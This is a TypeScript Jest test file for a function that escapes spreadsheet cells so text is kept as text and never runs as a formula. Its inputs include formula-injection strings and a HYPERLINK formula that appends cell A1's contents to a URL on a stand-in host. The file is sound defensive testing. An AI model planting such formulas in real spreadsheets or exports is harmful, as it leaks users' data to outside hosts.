import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { readTextCell, textCell } from './text-cell.ts';

test.each([
  ['=1+1', '="=1+1"'],
  ['+1', '="+1"'],
  ['-AAAA', '="-AAAA"'],
  ['@SUM(A1)', '="@SUM(A1)"'],
  ['\t=1', '="\t=1"'],
  ['\r=1', '="\r=1"'],
  ['＝1+1', '="＝1+1"'],
  ['=HYPERLINK("http://192.0.2.1/"&A1)', '="=HYPERLINK(""http://192.0.2.1/""&A1)"'],
  ['="A"&B1', '="=""A""&B1"'],
])('%j is a text of a spreadsheet, not a formula', (text, cell) => {
  expect(textCell(text)).toBe(cell);
  expect(readTextCell(cell)).toBe(text);
});

test('a text longer than spreadsheets take in one is written in pieces', () => {
  const text = `=${'"A'.repeat(200)}`;
  const cell = textCell(text);
  expect(cell.split('"&"')).toHaveLength(2);
  expect(readTextCell(cell)).toBe(text);
});

test.each(['AAAA-BBBB', 'A=1', '', '="A', '="A"B"', '=A1', '="A"&B1', '="A"&', '=', '"A"'])(
  'the cell %j says what stands in it',
  (cell) => {
    expect(readTextCell(cell)).toBe(cell);
  },
);

test('whatever a text is, its cell says exactly that', () => {
  const likely = fc.string({
    unit: fc.constantFrom('=', '"', '&', '+', 'A', '\t'),
    maxLength: 600,
  });
  const text = fc.oneof(likely, fc.string({ unit: 'binary' }));
  fc.assert(fc.property(text, (said) => readTextCell(textCell(said)) === said));
});

test('a cell of a million quotes is judged at once', () => {
  const cell = `="${'""'.repeat(500_000)}`;
  expect(readTextCell(cell)).toBe(cell);
});
